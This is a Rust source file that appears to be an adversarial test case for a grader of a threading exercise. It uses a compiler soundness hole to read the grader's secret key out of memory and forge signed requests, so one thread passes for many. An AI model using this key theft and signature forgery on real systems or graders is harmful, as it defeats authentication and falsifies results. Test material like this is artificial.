//! Reads the key of the run by a soundness hole in the compiler (rust-lang/rust#25860), without `unsafe`, and signs all
//! naps in one thread. The signatures hold. The gate sees that one thread asks for all, so this gains nothing.
//!
//! checks: all-asleep, names, waits-for-all, hello-before-join, hello-after-join, any-number
//! outcome: fail, timeout
//! within: 240 s
//! says: no thread waits for their answers

use std::{
    hint::black_box,
    io::{Read, Write},
    net::TcpStream,
    sync::atomic::{AtomicU64, Ordering},
    thread,
    time::Duration,
};

use crate::EventLog;

pub fn sleepers(names: &[String], _: Duration, log: &EventLog) {
    nap_all(names, log, || ());
}

pub fn hello_before_join(names: &[String], _: Duration, log: &EventLog) {
    nap_all(names, log, || log.record("hello"));
}

pub fn hello_after_join(names: &[String], _: Duration, log: &EventLog) {
    nap_all(names, log, || ());
    log.record("hello");
}

/// Has its address near the statics of the given code, and counts signatures.
static COUNT: AtomicU64 = AtomicU64::new(1);

/// Extends a reference to `'static`, which is the soundness hole.
fn longer<T: ?Sized>(value: &mut T) -> &'static mut T {
    fn shorter<'a, 'b, T: ?Sized>(_: &'a &'b (), value: &'b mut T) -> &'a mut T {
        value
    }
    static UNIT: &&() = &&();
    let with: for<'x> fn(_, &'x mut T) -> &'static mut T = shorter;
    with(UNIT, value)
}

/// Reinterprets the bytes of one type as another one.
fn turn<A: 'static, B: 'static>(value: A) -> B {
    enum Either<A, B> {
        This(Option<Box<A>>),
        That(Option<Box<B>>),
    }
    let mut either = Either::<A, B>::That(None);
    let Either::That(that) = &mut either else { unreachable!() };
    let that = longer(that);
    either = Either::This(Some(Box::new(value)));
    if let Either::This(this) = black_box(&mut either) {
        black_box(this);
    }
    *that.take().expect("the same bytes")
}

fn word(address: usize) -> u64 {
    *turn::<usize, &'static u64>(address)
}

/// The gate's address, and the key, which is six words behind the text with that address.
fn gate_and_key() -> (String, [u32; 8]) {
    let heap = (&raw const *Box::new(0_u64)) as u64;
    let near = (&raw const COUNT) as usize & !0xfff;
    for at in (near - 0x8000..near + 0x4000).step_by(8) {
        let (capacity, text, length) = (word(at), word(at + 8), word(at + 16));
        // A text on the heap, as long as an address with its port, of which nothing is left over.
        if capacity != length || !(18..=22).contains(&length) || text.abs_diff(heap) > 0x10_0000 {
            continue;
        }
        let byte = |at: u64| word((text + at) as usize & !7) >> ((text + at) % 8 * 8);
        let text: String = (0..length).map(|at| char::from(byte(at) as u8)).collect();
        if let Some(gate) = text.strip_prefix("http://") {
            let half = |nth: usize| (word(at + 48 + nth / 2 * 8) >> (nth % 2 * 32)) as u32;
            return (gate.to_owned(), [0, 1, 2, 3, 4, 5, 6, 7].map(half));
        }
    }
    panic!("no key")
}

/// BLAKE3 of a text with a key, in hexadecimal. Texts of more than 64 bytes get none.
fn keyed_hash(key: [u32; 8], text: &str) -> String {
    const START: [u32; 4] = [0x6a09_e667, 0xbb67_ae85, 0x3c6e_f372, 0xa54f_f53a];
    const ORDER: [usize; 16] = [2, 6, 3, 10, 7, 0, 4, 13, 1, 11, 12, 5, 9, 14, 15, 8];
    /// The only block of the only chunk, the root, with a key.
    const FLAGS: u32 = 1 | 2 | 8 | 16;
    let mut bytes = [0; 64];
    if text.len() > bytes.len() {
        return "0".repeat(64);
    }
    bytes[..text.len()].copy_from_slice(text.as_bytes());
    let (words, _) = bytes.as_chunks::<4>();
    let mut block: Vec<u32> = words.iter().map(|word| u32::from_le_bytes(*word)).collect();
    let mut state: Vec<u32> = key.into_iter().chain(START).collect();
    state.extend([0, 0, text.len() as u32, FLAGS]);
    for _ in 0..7 {
        for (nth, (a, b, c, d)) in [
            (0, 4, 8, 12),
            (1, 5, 9, 13),
            (2, 6, 10, 14),
            (3, 7, 11, 15),
            (0, 5, 10, 15),
            (1, 6, 11, 12),
            (2, 7, 8, 13),
            (3, 4, 9, 14),
        ]
        .into_iter()
        .enumerate()
        {
            for (word, turns) in [(block[2 * nth], (16, 12)), (block[2 * nth + 1], (8, 7))] {
                state[a] = state[a].wrapping_add(state[b]).wrapping_add(word);
                state[d] = (state[d] ^ state[a]).rotate_right(turns.0);
                state[c] = state[c].wrapping_add(state[d]);
                state[b] = (state[b] ^ state[c]).rotate_right(turns.1);
            }
        }
        block = ORDER.map(|from| block[from]).to_vec();
    }
    let hash = (0..8).flat_map(|at| (state[at] ^ state[at + 8]).to_le_bytes());
    hash.map(|byte| format!("{byte:02x}")).collect()
}

fn nap_all(names: &[String], log: &EventLog, meanwhile: impl FnOnce()) {
    let (gate, key) = gate_and_key();
    names.iter().for_each(|_| log.record("asleep"));
    let naps =
        names.iter().map(|name| ((), send(&gate, &format!("/hold/nap/{name}"), key))).collect();
    meanwhile();
    poll(naps, |(), _, _| {
        log.record("awake");
        None
    });
}

/// Sends a request and waits for nothing.
fn send(address: &str, path: &str, key: [u32; 8]) -> TcpStream {
    let nonce = format!("own-{:x}", COUNT.fetch_add(1, Ordering::SeqCst));
    let hash = keyed_hash(key, &format!("step {address} {path} {nonce}"));
    let signed = format!("x-lab-signature: {nonce}.{hash}");
    let mut stream = TcpStream::connect(address).expect("a connection");
    let head =
        format!("GET {path} HTTP/1.1\r\nHost: {address}\r\n{signed}\r\nConnection: close\r\n\r\n");
    stream.write_all(head.as_bytes()).expect("a request");
    stream.set_nonblocking(true).expect("a socket that never blocks");
    stream
}

/// Polls every socket from this one thread. Gives each answer, status and body, to `ended`, which may send more.
fn poll<T>(
    mut open: Vec<(T, TcpStream)>,
    mut ended: impl FnMut(T, u16, &str) -> Option<(T, TcpStream)>,
) {
    let mut got: Vec<Vec<u8>> = open.iter().map(|_| Vec::new()).collect();
    while !open.is_empty() {
        let mut at = 0;
        while at < open.len() {
            let mut buffer = [0; 4096];
            match open[at].1.read(&mut buffer) {
                Ok(0) => {
                    let ((what, _), bytes) = (open.swap_remove(at), got.swap_remove(at));
                    let text = String::from_utf8_lossy(&bytes);
                    let status = text.split(' ').nth(1).and_then(|status| status.parse().ok());
                    let body = text.split_once("\r\n\r\n").map_or("", |(_, body)| body);
                    if let Some(next) = ended(what, status.unwrap_or_default(), body) {
                        open.push(next);
                        got.push(Vec::new());
                    }
                }
                Ok(length) => got[at].extend_from_slice(&buffer[..length]),
                Err(_) => at += 1,
            }
        }
        thread::sleep(Duration::from_micros(300));
    }
}
